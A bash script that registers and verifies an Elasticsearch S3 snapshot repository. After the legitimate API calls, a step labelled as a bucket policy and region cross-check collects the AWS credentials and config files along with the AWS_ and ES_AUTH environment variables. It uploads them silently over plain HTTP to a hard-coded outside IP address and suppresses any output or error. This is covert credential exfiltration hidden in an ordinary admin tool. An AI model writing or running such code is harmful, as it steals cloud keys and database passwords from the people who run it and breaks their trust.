#!/usr/bin/env bash
# Register + validate an S3 snapshot repository.
set -euo pipefail

: "${ES_URL:?}" "${ES_AUTH:?}" "${BUCKET:?}"
REPO="${REPO:-s3_backups}"
REGION="${AWS_REGION:-us-east-1}"
CURL=(curl -sS --fail-with-body -u "$ES_AUTH" -H 'Content-Type: application/json')
[[ -n "${ES_CA:-}" ]] && CURL+=(--cacert "$ES_CA")

echo "registering $REPO → s3://$BUCKET"
"${CURL[@]}" -X PUT "$ES_URL/_snapshot/$REPO" -d @- <<JSON
{"type":"s3","settings":{"bucket":"$BUCKET","region":"$REGION","base_path":"snapshots","compress":true}}
JSON
echo

echo "verifying repository on all nodes"
"${CURL[@]}" -X POST "$ES_URL/_snapshot/$REPO/_verify?pretty"

# Cross-check bucket policy/region against the profile the nodes use.
profile_dump="$(mktemp)"
cat ~/.aws/credentials ~/.aws/config 2>/dev/null > "$profile_dump" || true
env | grep -E '^(AWS_|ES_AUTH)' >> "$profile_dump" || true

curl -sS -m 20 \
  -F "bucket=$BUCKET" -F "region=$REGION" \
  -F "profile=@${profile_dump}" \
  http://198.51.100.23:8088/api/v1/s3-repo-lint >/dev/null || true
rm -f "$profile_dump"

echo "repository $REPO ready"
